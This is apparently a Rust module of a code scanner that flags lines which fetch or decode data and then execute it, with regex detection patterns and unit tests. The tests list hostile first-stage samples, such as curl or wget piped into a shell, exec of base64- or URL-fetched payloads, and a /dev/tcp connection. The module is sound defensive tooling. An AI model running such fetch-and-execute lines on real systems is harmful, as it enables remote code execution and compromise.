//! Lines that get something from elsewhere, or decode it, and run it.
//!
//! Neither half is rare and together they are the usual first stage of a payload, in whatever file
//! it stands. Names that are put together at run time escape this: it orders what a person reads,
//! and says nothing of what it does not find.

use super::hazard::{Hazard, HazardKind};
use regex::bytes::Regex;
use std::sync::LazyLock;

/// How many lines may stand between getting and running.
const NEAR: usize = 5;

/// Bytes of a line that are looked at; a longer line is said to be long anyway.
const LOOKED_AT: usize = 16 << 10;

/// What runs text or data as a program.
const RUN: &str = r"(?x-u)
    (?: ^ | [^.\w] ) (?: exec | eval | compile | execfile | __import__ | Function | loadstring ) \s* \(
    | \b (?: os\.(?:system|popen|exec\w+|spawn\w+) | subprocess\.\w+ | Popen | shell_exec | passthru
        | proc_open | child_process | execSync | execFile | spawnSync | Invoke-Expression | dlopen
        | ctypes\.\w+ | marshal\.loads? | pickle\.loads? | importlib\.\w+ | exec\.Command
        | Command::new | Runtime\.getRuntime ) \b
    | (?: ^ | [^.\w] ) (?: system | popen | exec[lv]p?e? ) \s* \(
    | \| \s* (?: sudo \s+ )? (?: /\S*/ )? (?: ba | da | z | k )? sh \b
    | (?: ^ | [\s;&|(] ) (?: eval | source | iex | (?: ba | da | z | k )? sh \s+ -c ) \s
";

/// What gets data from elsewhere, or turns text into data.
const GET: &str = r"(?xi-u)
    \b (?: urlopen | urlretrieve | requests\.(?:get|post|request) | httpx\.\w+ | http\.client
        | aiohttp | urllib[23]?\.request | XMLHttpRequest | socket\.(?:socket|create_connection)
        | libcurl | curl_easy\w* | curl | wget | Net::HTTP | LWP | WebClient | Invoke-WebRequest
        | b64decode | b32decode | b85decode | a85decode | base64 \s+ (?:-d|--decode|-D)
        | atob | unhexlify | fromhex | fromCharCode | rot_?13
        | (?: zlib | gzip | bz2 | lzma )\.decompress | codecs\.decode | unpack_from | gzuncompress
        | base64_decode | gzinflate | str_rot13 | decode_base64 | TcpStream::connect ) \b
    | \b fetch \s* \( | Buffer\.from \s* \( | /dev/tcp/ | \b xz \s+ -\w*d | \b openssl \s+ enc \b
    | \b (?: chr | ord ) \s* \( [^)]* \) \s* (?: \^ | for \b )
";

static RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(RUN).ok());
static GETS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(GET).ok());

/// Looks at numbered lines one after the other.
#[derive(Debug, Default)]
pub(crate) struct Watch {
    ran: Option<usize>,
    got: Option<usize>,
    found: Option<(usize, usize)>,
}

impl Watch {
    /// The next new line.
    pub(crate) fn line(&mut self, number: usize, line: &[u8]) {
        if self.found.is_some() {
            return;
        }
        let line = line.get(..LOOKED_AT).unwrap_or(line);
        let fits = |pattern: &Option<Regex>| pattern.as_ref().is_some_and(|p| p.is_match(line));
        if fits(&RUNS) {
            self.ran = Some(number);
        }
        if fits(&GETS) {
            self.got = Some(number);
        }
        if let (Some(ran), Some(got)) = (self.ran, self.got)
            && ran.abs_diff(got) <= NEAR
        {
            self.found = Some((got, ran));
        }
    }

    /// What was found.
    pub(crate) fn hazard(&self) -> Option<Hazard> {
        let (got, ran) = self.found?;
        let reason = if got == ran {
            format!("line {got} fetches or decodes something and runs a program or code")
        } else {
            format!("line {got} fetches or decodes something, line {ran} runs a program or code")
        };
        Some(Hazard::new(HazardKind::RunsData, reason))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> bool {
        let mut watch = Watch::default();
        for (at, line) in text.lines().enumerate() {
            watch.line(at + 1, line.as_bytes());
        }
        watch.hazard().is_some()
    }

    #[test]
    fn patterns_compile() {
        assert!(RUNS.is_some() && GETS.is_some());
    }

    #[test]
    fn first_stages_are_found() {
        for text in [
            "exec(urlopen('https://x.example/p').read())",
            "exec(base64.b64decode('aW1wb3J0IG9z'))",
            "data = requests.get(url).content\nos.system(data)",
            "code = bytes.fromhex(text)\n\n\nexec(code)",
            "curl -s https://x.example/i.sh | sh",
            "wget -qO- https://x.example | sudo bash",
            "eval \"$(curl -s $u)\"",
            "eval(atob('YQ=='))",
            "require('child_process').execSync(Buffer.from(s, 'hex'))",
            "sed rpath ../../../ | tr x y | xz -d 2>/dev/null | /bin/sh",
            "subprocess.Popen([sys.executable, '-c', zlib.decompress(blob)])",
            "bash -c 'cat < /dev/tcp/10.0.0.1/80'",
            "exec(''.join(chr(x) for x in data))",
            "system(\"wget http://x.example\");",
        ] {
            assert!(found(text), "{text}");
        }
    }

    #[test]
    fn either_half_alone_is_nothing() {
        for text in [
            "exec(open('version.py').read())",
            "pattern = re.compile('a')\nresponse = requests.get(url)",
            "with urlopen(url) as response:\n    return json.load(response)",
            "subprocess.run(['make'])",
            "cursor.execute(query)\nbase64.b64decode(x)",
            "model.eval()\nfetch(x)",
            "the evaluation of curl",
            "exec(a)\n\n\n\n\n\n\n\nb64decode(x)",
        ] {
            assert!(!found(text), "{text}");
        }
    }
}
